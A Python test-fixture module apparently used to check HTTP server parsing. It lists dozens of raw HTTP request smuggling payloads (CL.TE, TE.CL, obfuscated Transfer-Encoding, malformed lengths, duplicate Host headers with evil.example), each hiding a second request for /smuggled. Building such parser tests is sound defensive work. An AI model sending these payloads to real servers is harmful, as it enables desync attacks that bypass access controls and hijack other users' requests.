"""Requests that two servers may cut in different places, so that one of them finds a second request inside (CWE-444).

Each holds a request for /smuggled where one way of reading would begin a new one. Sources: RFC 9112 §6.1, §6.3 and §11.2;
PortSwigger's "HTTP desync attacks"; the table of `smuggler` variants for Transfer-Encoding.
"""

from typing import NamedTuple

INNER = b"GET /smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n"
CHUNKED_INNER = b"%x\r\n%b\r\n0\r\n\r\n" % (len(INNER), INNER)
EARLY_END = b"0\r\n\r\n" + INNER


class Payload(NamedTuple):
    """Bytes for one connection. `is_one`: every reader finds one request in them, so it may be answered."""

    name: str
    data: bytes


def _post(*fields: bytes, body: bytes) -> bytes:
    return b"\r\n".join([b"POST /vote/1 HTTP/1.1", b"Host: localhost", *fields, b"", b""]) + body


def _both(coding: bytes, body: bytes = EARLY_END) -> bytes:
    """Both ways of saying how long a body is; where the length counts, the inner request is content."""
    return _post(b"Content-Length: %d" % len(body), coding, body=body)


def _length(*fields: bytes) -> bytes:
    return _post(*fields, body=INNER)


def _chunked(body: bytes) -> bytes:
    return _post(b"Transfer-Encoding: chunked", body=body)


PAYLOADS = (
    Payload("CL.TE", _both(b"Transfer-Encoding: chunked")),
    Payload("TE.CL", _post(b"Content-Length: 4", b"Transfer-Encoding: chunked", body=CHUNKED_INNER)),
    Payload("CL.0 behind TE", _post(b"Content-Length: 0", b"Transfer-Encoding: chunked", body=CHUNKED_INNER)),
    Payload("TE.TE: identity second", _both(b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity")),
    Payload("TE.TE: unknown second", _post(b"Transfer-Encoding: chunked", b"Transfer-Encoding: x", body=EARLY_END)),
    Payload("TE.TE: a list", _both(b"Transfer-Encoding: chunked, identity")),
    Payload("TE of another name", _both(b"Transfer-Encoding: xchunked")),
    Payload("TE: space before the colon", _both(b"Transfer-Encoding : chunked")),
    Payload("TE: vertical tab before the value", _both(b"Transfer-Encoding:\x0bchunked")),
    Payload("TE: tab before the value", _both(b"Transfer-Encoding:\tchunked")),
    Payload("TE: in quotes", _both(b'Transfer-Encoding: "chunked"')),
    Payload("TE: folded value", _both(b"Transfer-Encoding:\r\n chunked")),
    Payload("TE: space before the name", _both(b" Transfer-Encoding: chunked")),
    Payload("TE: behind a bare LF", _both(b"X: x\nTransfer-Encoding: chunked")),
    Payload("TE: behind a bare CR", _both(b"X: x\rTransfer-Encoding: chunked")),
    Payload("TE: underscore", _both(b"Transfer_Encoding: chunked")),
    Payload("TE: NUL in the name", _both(b"Transfer-Encoding\0: chunked")),
    Payload("TE in HTTP/1.0", _chunked(EARLY_END).replace(b"HTTP/1.1", b"HTTP/1.0", 1)),
    Payload("two lengths, larger last", _length(b"Content-Length: 0", b"Content-Length: %d" % len(INNER))),
    Payload("two lengths, smaller last", _length(b"Content-Length: %d" % len(INNER), b"Content-Length: 0")),
    Payload("a list of lengths", _length(b"Content-Length: 0, %d" % len(INNER))),
    Payload("a length with a sign", _length(b"Content-Length: +0")),
    Payload("a negative length", _length(b"Content-Length: -1")),
    Payload("a length in hex", _length(b"Content-Length: 0x%x" % len(INNER))),
    Payload("a length with a space", _length(b"Content-Length: 0 %d" % len(INNER))),
    Payload("a length too large for 64 bits", _length(b"Content-Length: 18446744073709551616")),
    Payload("a length with an underscore", _length(b"Content-Length: %d" % len(INNER), b"Content_Length: 0")),
    Payload("a length that is hop by hop", _length(b"Content-Length: %d" % len(INNER), b"Connection: content-length")),
    Payload("chunk extension with a bare LF", _chunked(b"1;x\n" + INNER[:1] + b"\r\n" + EARLY_END[:5])),
    Payload(
        "chunk extension that holds a request", _chunked(b"1;" + INNER.replace(b"\r\n", b" ") + b"\r\nx\r\n0\r\n\r\n")
    ),
    Payload("chunk size too large for 64 bits", _chunked(b"10000000000000000\r\n" + EARLY_END)),
    Payload("chunk size with a prefix", _chunked(b"0x0\r\n\r\n" + INNER)),
    Payload("chunk size that is negative", _chunked(b"-1\r\n" + EARLY_END)),
    Payload("chunk without its end", _chunked(b"1\r\nxxx0\r\n\r\n" + INNER)),
    Payload("a request in the trailers", _chunked(b"0\r\n" + INNER)),
    Payload(
        "two hosts", INNER.replace(b"/smuggled", b"/vote/1").replace(b"\r\n\r\n", b"\r\nHost: evil.example\r\n\r\n")
    ),
    Payload("two hosts, ours last", b"GET / HTTP/1.1\r\nHost: evil.example\r\nHost: localhost\r\n\r\n"),
    Payload("absolute form of another host", b"GET http://evil.example/smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n"),
    Payload("absolute form under another Host", b"GET http://localhost/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"),
    Payload("a space in the path", b"GET / HTTP/1.1 /smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n"),
    Payload("a bare CR in the path", b"GET /\rGET /smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n"),
    Payload("line ends without CR", _length(b"Content-Length: %d" % len(INNER)).replace(b"\r\n", b"\n", 4)),
    Payload("CONNECT", b"CONNECT localhost:80 HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\r\n\r\n" + INNER),
    Payload(
        "an upgrade to h2c",
        _post(
            b"Connection: Upgrade, HTTP2-Settings",
            b"Upgrade: h2c",
            b"HTTP2-Settings: AAA",
            b"Content-Length: %d" % len(INNER),
            body=INNER,
        ),
    ),
    Payload(
        "an upgrade of a ballot",
        _post(b"Connection: Upgrade", b"Upgrade: websocket", b"Content-Length: %d" % len(INNER), body=INNER),
    ),
    Payload("a GET with a body", _length(b"Content-Length: %d" % len(INNER)).replace(b"POST", b"GET", 1)),
    Payload("a body behind Expect", _length(b"Expect: 100-continue", b"Content-Length: %d" % len(INNER))),
)
